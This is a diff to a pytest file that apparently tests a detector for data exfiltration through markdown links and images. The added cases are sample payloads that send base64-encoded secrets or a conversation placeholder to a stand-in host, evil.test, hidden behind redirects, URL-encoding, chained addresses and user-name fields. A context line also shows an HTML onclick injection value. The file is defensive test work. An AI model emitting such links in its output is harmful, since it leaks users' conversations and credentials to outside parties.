@@ -119,6 +119,21 @@ def test_ordinary_links_carry_no_data(text: str) -> None:
 
 
 @pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://good.test/go?to=https://evil.test/?d=dXNlciBwYXNzd29yZCBpcyBodW50ZXIy)",
+        "![x](https://good.test/go?to=https%3A%2F%2Fevil.test%2F%3Fd%3DdXNlciBwYXNzd29yZCBpcyBodW50ZXIy)",
+        "[x](" + "https://a.test/" * 90 + "?d=dXNlciBwYXNzd29yZCBpcyBodW50ZXIy)",
+        "![x](https://user:dXNlciBwYXNzd29yZCBpcyBodW50ZXIy@evil.test/)",
+        "[log in](https://evil.test/a.png?q=[CONVERSATION])",
+    ],
+)
+def test_addresses_inside_an_address_hide_nothing(text: str) -> None:
+    """Neither a redirect nor a chain of addresses nor a user name carries data out of sight."""
+    assert exfiltration()(text)
+
+
+@pytest.mark.parametrize(
     ("sink", "value"),
     [
         ("html", "<b onclick=x>"),
